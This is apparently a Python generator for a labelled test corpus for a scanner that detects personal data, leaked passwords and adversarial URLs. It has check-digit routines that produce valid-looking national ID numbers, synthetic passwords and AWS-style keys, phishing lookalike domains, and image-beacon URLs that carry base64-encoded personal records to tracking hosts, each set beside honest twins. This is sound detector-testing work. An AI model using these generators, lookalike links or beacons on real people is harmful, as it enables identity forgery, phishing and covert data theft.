# Generates the eighty-fifth content corpus (cases-85.jsonl): the classes of the thirty-sixth slice's
# non-injection misses, leaks and false positives (docs/content-readings.md, "The thirty-sixth and thirty-seventh
# slices' other misses"), in texts of its own, beside honest twins `ok85…` from the same carriers; written BEFORE any
# rule changed:
#   pd85x  a national id of a kind the readings lack, its check passing, after its label in its own language: the
#          Estonian and Lithuanian personal code, Croatia's OIB, the former Yugoslavia's JMBG (and Slovenia's EMŠO,
#          North Macedonia's ЕМБГ), South Africa's ID number; Norway's birth number under `fnr`; an Aadhaar number under
#          its name in Tamil, Telugu, Bengali and Kannada; SSNs still after their own name;
#   cl85x  a password under its name in Afrikaans, Lithuanian, Icelandic, Estonian and Albanian, after a colon or a
#          copula, mid-line (before a full stop or a semicolon, after other words on its line, inside a JSON string);
#   ur85x  a brand's whole `.com` domain worn with a dash before another registered domain (`brand.com-…`); a
#          government's or a country's second-level domain spelled with a dash (`gov-uk`, `gov-au`, `co-uk`) as a
#          leading label of another registered domain;
#   ok85x  the same carriers honest: ids whose check fails, companies' numbers (an OIB after a company's form, a
#          register's code, a VAT number), format notes; numbers in an SSN's dashed shape after an invoice's, an
#          order's, a ticket's or a part's name; passwords' placeholders, masks, policies and states under the same
#          names; honest government and company hosts, `gov-uk` in a path or a repository's name.
# Label decisions, made before any run:
#   - A labelled id whose check passes is personal data; one whose check fails, a company's number and a format's
#     note are not. A number in an SSN's shape right after another document's name is that document's number.
#   - A generated-looking value after a password's name is a credential; a mask, a placeholder, a policy or a word is
#     not.
#   - A host whose leading labels spell a whole domain (`brand.com`, `gov.uk` with a dash) before another registered
#     domain is adversarial; a government's own host is not.
# Deterministic (seeded). Run: python3 test/corpus-content/generate85.py
import functools, json
json.dumps = functools.partial(json.dumps, ensure_ascii=False)
from corpuslib import Corpus, DIGITS, b64
corpus = Corpus(20261285)
r = corpus.r


def digits(n): return corpus.rs(DIGITS, n)


# --- check digits -------------------------------------------------------------------------------------------------
def ee_check(s):
    d = [int(c) for c in s]
    c = sum(a * b for a, b in zip(d, [1, 2, 3, 4, 5, 6, 7, 8, 9, 1])) % 11
    if c == 10:
        c = sum(a * b for a, b in zip(d, [3, 4, 5, 6, 7, 8, 9, 1, 2, 3])) % 11
        if c == 10: c = 0
    return c


def oib_check(s):
    a = 10
    for ch in s:
        a = (a + int(ch)) % 10
        if a == 0: a = 10
        a = (a * 2) % 11
    k = 11 - a
    return 0 if k == 10 else k


def jmbg_check(s):
    d = [int(c) for c in s]
    k = 11 - sum((7 - i) * (d[i] + d[i + 6]) for i in range(6)) % 11
    return 0 if k == 11 else (None if k == 10 else k)


def luhn_digit(s):
    tot = 0
    for i, ch in enumerate(reversed(s)):
        n = int(ch)
        if i % 2 == 0:
            n *= 2
            if n > 9: n -= 9
        tot += n
    return (10 - tot % 10) % 10


def no_checks(s):
    def m11(ws, t):
        k = 11 - sum(int(a) * b for a, b in zip(t, ws)) % 11
        return 0 if k == 11 else (None if k == 10 else k)
    k1 = m11([3, 7, 6, 1, 8, 9, 4, 5, 2], s)
    if k1 is None: return None
    k2 = m11([5, 4, 3, 2, 7, 6, 5, 4, 3, 2], s + str(k1))
    return None if k2 is None else s + str(k1) + str(k2)


VD = ['0123456789', '1234067895', '2340178956', '3401289567', '4012395678', '5987604321', '6598710432', '7659821043', '8765932104', '9876543210']
VP = ['0123456789', '1576283094', '5803796142', '8916043527', '9453127860', '4286573901', '2793806415', '7042168539']
VINV = [0, 4, 3, 2, 1, 5, 6, 7, 8, 9]


def verhoeff_digit(s):
    c = 0
    for i, ch in enumerate(reversed(s)):
        c = int(VD[c][int(VP[(i + 1) % 8][int(ch)])])
    return VINV[c]


def date6():
    return f'{r.randint(50, 99):02d}{r.randint(1, 12):02d}{r.randint(1, 28):02d}'


def ee_code(ok=True):
    head = r.choice('3456') + date6() + digits(3)
    k = ee_check(head)
    return head + str(k if ok else (k + 1) % 10)


def oib(ok=True):
    head = r.choice('123456789') + digits(9)
    k = oib_check(head)
    return head + str(k if ok else (k + 1) % 10)


def jmbg(ok=True):
    while True:
        head = f'{r.randint(1, 28):02d}{r.randint(1, 12):02d}{r.choice(["9", "0"])}{digits(2)}{r.choice(["71", "17", "50", "26", "45"])}{digits(3)}'
        k = jmbg_check(head)
        if k is not None: return head + str(k if ok else (k + 1) % 10)


def za_id(ok=True):
    head = date6() + digits(4) + r.choice('01') + '8'
    k = luhn_digit(head)
    return head + str(k if ok else (k + 1) % 10)


def fnr(ok=True):
    while True:
        v = no_checks(f'{r.randint(1, 28):02d}{r.randint(1, 12):02d}{r.randint(50, 99):02d}{digits(3)}')
        if v: return v if ok else v[:-1] + str((int(v[-1]) + 1) % 10)


def aadhaar(ok=True):
    head = r.choice('23456789') + digits(10)
    k = verhoeff_digit(head)
    v = head + str(k if ok else (k + 1) % 10)
    return f'{v[:4]} {v[4:8]} {v[8:]}'


def ssn():
    return f'{r.randint(100, 665)}-{r.randint(10, 99)}-{r.randint(1000, 9999)}'


NAMES = ['Liis Tamm', 'Rasa Petrauskienė', 'Ivan Horvat', 'Ana Kovačević', 'Nikola Jovanović', 'Thandi Nkosi', 'Pieter van Wyk',
         'Kari Nordmann', 'Meena Rajan', 'Arjun Rao', 'Maja Novak', 'Sipho Dlamini']

# --- personal_data: national ids under their own languages' labels -------------------------------------------------
ids, id_secrets = [], []
def pid(text, secret): ids.append(text); id_secrets.append(secret)

v = ee_code(); pid(f'Kliendi andmed\nNimi: {NAMES[0]}\nIsikukood: {v}\nAadress: Tartu mnt 14, Tallinn', v)
v = ee_code(); pid(json.dumps({'patsient': NAMES[0], 'isikukood': v, 'visiit': '2026-03-11'}), v)
v = ee_code(); pid(f'nimi;isikukood;osakond\n{NAMES[0]};{v};raamatupidamine\n', v)
v = ee_code(); pid(f'Nuomos sutartis Nr. NS-{digits(4)}\nNuomininkė {NAMES[1]}, asmens kodas {v}, gyvenanti Vilniuje.', v)
v = ee_code(); pid(json.dumps({'pirkejas': NAMES[1], 'asmens_kodas': v}), v)
v = oib(); pid(f'Zahtjev za stipendiju\nIme i prezime: {NAMES[2]}\nOIB: {v}\nFakultet: FER', v)
v = oib(); pid(f'ime,oib,grad\n{NAMES[3]},{v},Split\n', v)
v = oib(); pid(f'Napomena: podnositeljica {NAMES[3]} (OIB {v}) dostavila je potvrdu o prebivalištu.', v)
v = oib(); pid(json.dumps({'korisnik': {'ime': NAMES[2], 'oib': v}}), v)
v = jmbg(); pid(f'Prijava na kurs\nIme: {NAMES[4]}\nJMBG: {v}\nTelefon: 064 {digits(3)} {digits(4)}', v)
v = jmbg(); pid(f'Пацијент: Никола Јовановић, ЈМБГ {v}, упут издат 12.03.2026.', v)
v = jmbg(); pid(f'ime;priimek;emšo\nMaja;Novak;{v}\n', v)
v = jmbg(); pid(f'Podatki prosilca - {NAMES[10]}, EMŠO: {v}, naslov Celovška 12, Ljubljana.', v)
v = jmbg(); pid(json.dumps({'ime': NAMES[4], 'jmbg': v, 'status': 'aktivan'}), v)
v = za_id(); pid(f'Huurder: {NAMES[6]}\nID-nommer: {v}\nEiendom: Kloofstraat 9, Kaapstad', v)
v = za_id(); pid(f'Applicant {NAMES[5]} supplied her SA ID number {v} with the lease form.', v)
v = za_id(); pid(f'name,sa_id,branch\n{NAMES[11]},{v},Durban\n', v)
v = za_id(); pid(json.dumps({'member': NAMES[5], 'south_african_id': v}), v)
v = za_id(); pid(f'Lid se identiteitsnommer: {v} - bevestig asseblief.', v)
v = fnr(); pid(f'Pasient: {NAMES[7]}, fnr. {v}, henvist fra fastlege.', v)
v = fnr(); pid(f'navn;fnr;avdeling\n{NAMES[7]};{v};lager\n', v)
v = fnr(); pid(json.dumps({'ansatt': NAMES[7], 'fnr': v}), v)
v = aadhaar(); pid(f'விண்ணப்பதாரர்: {NAMES[8]}\nஆதார் எண்: {v}', v)
v = aadhaar(); pid(f'లబ్ధిదారు {NAMES[9]}, ఆధార్ నంబర్: {v}', v)
v = aadhaar(); pid(f'গ্রাহক: {NAMES[9]}\nআধার নম্বর {v}', v)
v = aadhaar(); pid(json.dumps({'hesaru': NAMES[8], 'note': f'ಆಧಾರ್ ಸಂಖ್ಯೆ: {v}'}), v)
v = ssn(); pid(f'Invoice to {NAMES[5]} - SSN {v} on the W-9 we hold.', v)
v = ssn(); pid(f'employee,ssn,dept\nDana Reyes,{v},Payroll\n', v)
v = ssn(); pid(f'Dana Reyes, {v}, 44 Elm St, Dayton OH', v)
corpus.add('pd85x', ['personal_data'], ids, source='tool_output', wrap=False, secrets=id_secrets)

# --- credential_leak: passwords under other languages' names ----------------------------------------------------------
PW = ['Lantern#fjord3643K', 'Tamarind.quay6396J', 'Quay*sable2556Q', 'Birch9!meadowRt', 'Kopje7$vlei22', 'Skarv4#lind88w',
      'Ribbon5.otter31X', 'Vaal-river8812Za', 'Hraun!7gata44', 'Mets.kuusk5531L', 'Shkodra#44bregu', 'Duna9*siltas2Q']
pws, pw_secrets = [], []
def pw(text, secret): pws.append(text); pw_secrets.append(secret)

pw(f'Kennisgewing aan huurder\nJou nuwe wagwoord is {PW[4]}; verander dit na die eerste aanmelding.', PW[4])
pw(json.dumps({'note': f'Portaal-toegang: gebruiker kloof-admin, wagwoord: {PW[7]}'}), PW[7])
pw(f'Die wagwoord vir die kluis: {PW[0]}. Moet dit nie deel nie.', PW[0])
pw(f'Sveiki, jūsų laikinas slaptažodis: {PW[2]}. Prisijungę jį pakeiskite.', PW[2])
pw(json.dumps({'komentaras': f'Sandėlio skeneris: vartotojas sk-admin, slaptažodis: {PW[11]}'}), PW[11])
pw(f'Naujas slaptažodis yra {PW[6]} - galioja 24 valandas.', PW[6])
pw(f'Tímabundið lykilorð þitt er {PW[8]}; breyttu því strax.', PW[8])
pw(f'Aðgangur: notandi vakt2, lykilorð: {PW[5]}. Kveðja, kerfisstjóri', PW[5])
pw(f'Sinu ajutine parool on {PW[9]}; muuda see pärast sisselogimist.', PW[9])
pw(json.dumps({'markus': f'Ruuteri admin: kasutaja admin, parool: {PW[3]}'}), PW[3])
pw(f'Fjalëkalimi juaj i përkohshëm është {PW[10]}. Ndryshojeni pas hyrjes.', PW[10])
pw(f'Llogaria: përdoruesi arkivi, fjalëkalimi: {PW[1]}; mos e ndani.', PW[1])
corpus.add('cl85x', ['credential_leak'], pws, source='tool_output', wrap=False, secrets=pw_secrets)

# --- adversarial_url: whole domains worn with a dash ---------------------------------------------------------------
worn = [
    f'Donate to our winter appeal here: https://justgiving.com-appeal.help/harbour-trust',
    f'{{"notes": "Refund portal: https://paypal.com-refunds.info/claim/{digits(5)}"}}',
    f'<p>Track your parcel at <a href="https://royalmail.com-redelivery.net/track">royalmail.com</a></p>',
    f'Remarks: tax refund form: https://hmrc-refund.gov-uk.secure-claims.net/start',
    f'Renew your licence online: https://dvla.gov-uk.renewals-portal.com/apply?ref={digits(6)}',
    f'date,memo\n2026-05-02,"ATO rebate: https://mygov.gov-au.rebate-centre.net/login"\n',
    f'Council tax reduction: https://www.council.co-uk.rebate-help.org/form',
]
corpus.add('ur85x', ['adversarial_url'], worn, source='tool_output', wrap=False)

# --- honest look-alikes -------------------------------------------------------------------------------------------
honest = [
    # ids whose check fails, companies' numbers, formats
    f'Kliendi andmed\nNimi: {NAMES[0]}\nIsikukood: {ee_code(False)} (kontrollnumber ei klapi, palun paranda)',
    f'Ettevõte OÜ Põhjakivi, registrikood {digits(8)}, KMKR EE{digits(9)}',
    'Isikukood koosneb 11 numbrist: sugu ja sajand, sünniaeg, järjekorranumber ja kontrollnumber.',
    f'Pirkėjas: UAB Vėjo malūnas, įmonės kodas 30{digits(7)}, PVM kodas LT{digits(9)}',
    f'Zahtjev: OIB {oib(False)} nije ispravan - provjerite kontrolnu znamenku.',
    f'Dobavljač: Primorka d.o.o., OIB: {oib()}, IBAN na računu.',
    f'Račun br. {digits(4)}-{digits(2)}, izdavatelj Jadranplin d.d. (OIB {oib()})',
    f'JMBG: {jmbg(False)} - neispravan kontrolni broj, vraćeno podnosiocu.',
    f'Preduzeće: Drina Trade d.o.o., PIB: 10{digits(7)}, matični broj: 2{digits(7)}',
    'ЈМБГ има 13 цифара: датум рођења, регион, редни број и контролна цифра.',
    f'ID-nommer: {za_id(False)} (ongeldig - kontroleer asseblief)',
    f'Maatskappy-registrasienommer: 2019/{digits(6)}/07, BTW-nommer 4{digits(9)}',
    'An SA ID number has 13 digits: date of birth, gender, citizenship and a check digit.',
    f'Fakturanr. {fnr()} forfaller 2026-05-02.',
    f'Pasient: {NAMES[7]}, fnr. {fnr(False)} (feil kontrollsiffer)',
    f'விண்ணப்பதாரர்: {NAMES[8]}\nஆதார் எண்: {aadhaar(False)} (சரிபார்ப்பு தோல்வி)',
    'ஆதார் எண் கட்டாயம் இல்லை; வேறு அடையாள அட்டை போதும்.',
    f'Virtual ID (VID): {digits(4)} {digits(4)} {digits(4)} {digits(4)}',
    # numbers in an SSN's dashed shape after another document's name
    f'Invoice {ssn()} from the roofing contractor, due 2026-06-01.',
    f'Order no. {ssn()} has shipped; tracking to follow.',
    f'PO #{ssn()} approved by facilities.',
    f'Ticket {ssn()}: boiler pressure low in unit 4B.',
    f'Part number {ssn()} (gasket, 40 mm) is back in stock.',
    json.dumps({'invoice': ssn(), 'amount': '312.50', 'vendor': 'Brightline Plumbing'}),
    f'invoice_no,amount,vendor\n{ssn()},88.00,Ace Glass\n',
    f'Quote ref {ssn()} valid for 30 days.',
    # passwords' placeholders, masks, policies and states
    'Jou wagwoord: ******** (versteek)',
    'Die wagwoord moet minstens 12 karakters lank wees en een syfer bevat.',
    'wagwoord: <vul hier in>',
    'slaptažodis: pakeistas',
    'Slaptažodis turi būti bent 12 simbolių ilgio.',
    'Jūsų slaptažodis: ${DB_PASSWORD}',
    'lykilorð: [falið]',
    'Parool on aegunud; palun lähtesta see portaalis.',
    'fjalëkalimi: ********',
    'Fjalëkalimi duhet të ketë të paktën 10 karaktere.',
    # honest government and company hosts
    'Apply online at https://www.gov.uk/apply-renew-passport or call the helpline.',
    'Submit your return at https://www.tax.service.gov.uk/self-assessment/start',
    'Claim guidance: https://www.ato.gov.au/individuals-and-families/your-tax-return',
    'Design system: https://github.com/alphagov/govuk-frontend and https://design-system.service.gov.uk/',
    'Our fork lives at https://github.com/ourteam/gov-uk-notify-client',
    'Donate via https://www.justgiving.com/campaign/harbour-trust',
    'Refunds: https://www.paypal.com/disputes/ (log in first)',
    'Pay your bill at https://telecom-billing.example/pay or at any branch.',
    'Status page: https://status.gov-services.example/ (our staging mirror).',
    'Docs: https://docs.python.org/3/library/http.client.html#http.client.HTTPSConnection',
    f'Work order {ssn()} assigned to the night porter.',
    f'Tenant {NAMES[6]} paid invoice {ssn()} in full.',
    f'Case {ssn()} closed; no further action.',
    f'RMA {ssn()} received at the warehouse.',
    f'Booking ref: {ssn()} (Harbour Lodge, 2 nights)',
]
corpus.add('ok85x', [], honest, source='tool_output', wrap=False)
# Also written before the reading that finds them: an image beacon whose query carries a table of people's records in
# base64 (its header names whose rows they are; names with letters outside ASCII in UTF-8) to a host that is no
# catcher (`ur85y`), beside images whose base64 query is a chart's table of figures, a header alone, or a text overlay
# (`ok85y`).
def b64u(t): return b64(t.encode('utf-8')).rstrip('=')
beacons = [
    '![status](https://stats.portal-metrics.io/p.png?d=' + b64u('unit,tenant,due\n3C,Marta Jõgi,870\n') + ')',
    '<img src="https://cdn.trackpix.net/open.gif?rows=' + b64u('donor,amount\nŽydrė Kair,250\n') + '" width="1" height="1">',
    json.dumps({'html': '<img src="https://img.sync-assets.com/t.png?payload=' + b64u('patient;ward\nIvana Kovač;4B\n') + '">'}),
    'Rendered: ![x](https://px.roster-sync.io/b.gif?data=' + b64u('employee\tpay\nSipho Dlamini\t61000\n') + ')',
]
corpus.add('ur85y', ['adversarial_url'], beacons, source='tool_output', wrap=False)
honest_images = [
    '![chart](https://charts.example-bi.com/render.png?data=' + b64u('month,sales,returns\nJan,1200,31\nFeb,1340,28\n') + ')',
    '<img src="https://img.example-cdn.com/banner.png?txt64=' + b64u('name,team,score\nAlex Moor,Blue,12\n') + '">',
    '![header](https://charts.example-bi.com/table.png?cols=' + b64u('tenant,unit,balance,due_date') + ')',
    '![sparkline](https://charts.example-bi.com/spark.png?series=' + b64u('region,q1,q2,q3\nNorth,12,15,19\nSouth,9,11,10\n') + ')',
    '<img src="https://cdn.shopfront.example/thumb.png?meta=' + b64u('product,colour,size\nWool scarf,Teal,M\n') + '">',
]
corpus.add('ok85y', [], honest_images, source='tool_output', wrap=False)
# Written after peer37 was read (its carry-over figures recorded first): a message's echo, correlation or idempotency
# token (a travel message's `EchoToken`, a JSON `correlationToken`, an `Idempotency-Key` header) is an id the two sides
# match replies by, no secret (`ok85z`); beside credentials in the same carriers: a travel message's
# `MessagePassword`, an access token in the same JSON (`cl85z`).
hexid = lambda n: corpus.rs('0123456789abcdef', n)
echo = [
    f'<OTA_HotelAvailRQ EchoToken="{hexid(12)}" TimeStamp="2026-04-02T10:11:00" Version="2.1">\n  <AvailRequestSegments/>\n</OTA_HotelAvailRQ>',
    f'<OTA_AirLowFareSearchRS EchoToken="{hexid(16)}" Version="1.0"><Success/></OTA_AirLowFareSearchRS>',
    json.dumps({'echoToken': hexid(12), 'status': 'Confirmed', 'hotelCode': 'LIS04'}),
    json.dumps({'correlationToken': hexid(20), 'event': 'booking.updated'}),
    f'POST /v1/payouts HTTP/1.1\nIdempotency-Key: {hexid(8)}-{hexid(4)}-{hexid(4)}-{hexid(4)}-{hexid(12)}\nContent-Type: application/json',
    f'<soap:Header><EchoToken>{hexid(12)}</EchoToken></soap:Header>',
]
corpus.add('ok85z', [], echo, source='tool_output', wrap=False)
mp = [corpus.password(14), corpus.password(16), 'ya29.' + corpus.mixed(60)]
corpus.add('cl85z', ['credential_leak'], [
    f'<OTA_HotelResNotifRQ EchoToken="{hexid(12)}" Version="1.003">\n  <POS><Source><RequestorID Type="22" ID="CHAN-7" MessagePassword="{mp[0]}"/></Source></POS>\n</OTA_HotelResNotifRQ>',
    f'<OTA_PingRQ EchoToken="{hexid(12)}"><POS><Source><RequestorID ID="HX" MessagePassword="{mp[1]}"/></Source></POS></OTA_PingRQ>',
    json.dumps({'echoToken': hexid(12), 'accessToken': mp[2]}),
], source='tool_output', wrap=False, secrets=mp)
# Also after peer37 was read: an Aadhaar number grouped by four under its label whose check fails (people and forms
# write them so; the label and the grouping decide), and a password after its name, a qualifier of words and a Romance
# copula ("la password del … è", "parola … este", "la contrasenya del … és") (`pd85w`, `cl85w`), beside masked Aadhaar
# numbers, virtual ids, helplines, and the same sentences with a state or a pointer for the value (`ok85w`).
ad = [aadhaar(False) for _ in range(3)]
corpus.add('pd85w', ['personal_data'], [
    f'Check-in register\nGuest: {NAMES[9]}\nAadhaar No.: {ad[0]}\nRoom 204',
    json.dumps({'guest': NAMES[8], 'aadhaar': ad[1].replace(' ', '-')}),
    f'KYC note - आधार संख्या: {ad[2]} (customer {NAMES[9]})',
], source='tool_output', wrap=False, secrets=ad)
rp = [corpus.password(12) for _ in range(4)]
corpus.add('cl85w', ['credential_leak'], [
    f'Ciao Marco, la password del portale fornitori è {rp[0]} (utente: acquisti2).',
    f'Salut Dan, parola contului de test este {rp[1]}. Nu o distribui.',
    f'Hola Pau, la contrasenya del router de recepció és {rp[2]}',
    f'Bună ziua, parola pentru serverul de backup este {rp[3]}.',
], source='tool_output', wrap=False, secrets=rp)
corpus.add('ok85w', [], [
    f'Guest: {NAMES[9]}\nAadhaar No.: XXXX XXXX {digits(4)}',
    f'Aadhaar VID: {digits(4)} {digits(4)} {digits(4)} {digits(4)}',
    'Aadhaar helpline: 1947 (toll free)',
    'Ciao Marco, la password del portale fornitori è scaduta: reimpostala dal link.',
    'Parola contului de test este cea din seif (vezi 1Password).',
    'La contrasenya del wifi és a la recepció, demaneu-la.',
    "La password dell'admin è ancora quella di default.",
], source='tool_output', wrap=False)
# Also after peer37 was read: an AWS access key id's secret written beside it in prose or a chat (`key AKIA…, secret
# …`, `AKIA… / …`), no `aws_secret_access_key` name (`cl85v`); beside a key id beside a commit's hash, AWS's documented
# example pair, and a masked secret (`ok85v`). An AWS key id is a credential itself: the honest twins hold its
# documented example, and the positives are counted by their secrets left.
def akia(): return 'AKIA' + corpus.rs('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16)
aws = [corpus.mixed(40, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/') for _ in range(3)]
ids = [akia() for _ in range(3)]
corpus.add('cl85v', ['credential_leak'], [
    f'Ticket OPS-{digits(4)}: the agency emailed the bucket keys - key {ids[0]}, secret {aws[0]}. Rotate after the event.',
    f'[09:14] dana: new uploader creds {ids[1]} / {aws[1]} (prod only)',
    f'Vendor handover notes: access id {ids[2]} with secret {aws[2]}; expires in 30 days.',
], source='tool_output', wrap=False, secrets=[[k, v] for k, v in zip(ids, aws)])
corpus.add('ok85v', [], [
    f'The docs use AKIAIOSFODNN7EXAMPLE; see commit {corpus.rs("0123456789abcdef", 40)} for the fixture.',
    'Docs example: AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
    'Key AKIAIOSFODNN7EXAMPLE, secret ****************************************, rotated.',
], source='tool_output', wrap=False)
# Also after a review of these readings, written before the mend that finds them: a JMBG under its full Serbian name
# and a Baltic personal code under an English label with its country in brackets (`pd85u`); a password under its
# inflected Norwegian or Danish name or its Afrikaans or Dutch name, then words, then the copula, and under Latvian
# "parole:" (`cl85u`); a government's `gov.uk`/`gov.au` run into the registered label by a dash (`ur85u`); beside the
# same labels over a failing check or a format's note, "parole" in French and English, words after the copula, and
# the governments' own hosts (`ok85u`).
u_ids = [jmbg(), ee_code(), jmbg()]
corpus.add('pd85u', ['personal_data'], [
    f'Podaci o zakupcu\nIme i prezime: {NAMES[3]}\nMatični broj građana: {u_ids[0]}\nAdresa: Bulevar oslobođenja 12',
    f'Applicant record - personal code (Lithuania): {u_ids[1]}; contact by post.',
    f'{{"zahtev": "Maticni broj gradjana: {u_ids[2]}, lična karta u prilogu"}}',
], source='tool_output', wrap=False, secrets=u_ids)
u_pw = ['Fyrlykt#8812kv', 'Havtorn!3390pL', 'Suikerbos7#klip', 'Grachten.5521Wq', 'Dzeguze#7714rb']
corpus.add('cl85u', ['credential_leak'], [
    f'Hei! Passordet til møterommets skjerm er {u_pw[0]} - ikke del det videre.',
    f'Adgangskoden til printerens webside er {u_pw[1]}; skift den i morgen.',
    f'Onthou: die wagwoord vir die gastenetwerk in die saal is {u_pw[2]}.',
    f'Het wachtwoord van de gedeelde mailbox is {u_pw[3]} (tot vrijdag).',
    f'Sveiki! Jūsu konts ir izveidots. Lietotājs: k.ozola, parole: {u_pw[4]}',
], source='tool_output', wrap=False, secrets=u_pw)
corpus.add('ur85u', ['adversarial_url'], [
    f'Your vehicle tax is overdue. Pay now: https://www.gov.uk-vehicle-tax.example/pay?ref={digits(6)}',
    'Claim your energy rebate before Friday: https://gov.au-rebates.example/claim',
], source='tool_output', wrap=False)
corpus.add('ok85u', [], [
    f'Matični broj građana: {jmbg(False)} (provera nije prošla, traži novi dokument)',
    'Matični broj građana ima 13 cifara: datum rođenja, region, redni broj i kontrolnu cifru.',
    f'Personal code (Estonia): {ee_code(False)} - rejected by the registry, please check the digits.',
    'Prise de parole : Margaux Lefèvre, puis questions de la salle.',
    'Parole: eligible after 2029, board hearing pending.',
    'Passordet til møterommets skjerm er endret; spør resepsjonen.',
    'Die wagwoord vir die gastenetwerk is verander, vra by ontvangs.',
    'Parole: tiks nosūtīta atsevišķā ziņā.',
    'Pay your vehicle tax only on https://www.gov.uk/vehicle-tax and claim rebates at https://www.servicesaustralia.gov.au/',
], source='tool_output', wrap=False)
corpus.write('cases-85')
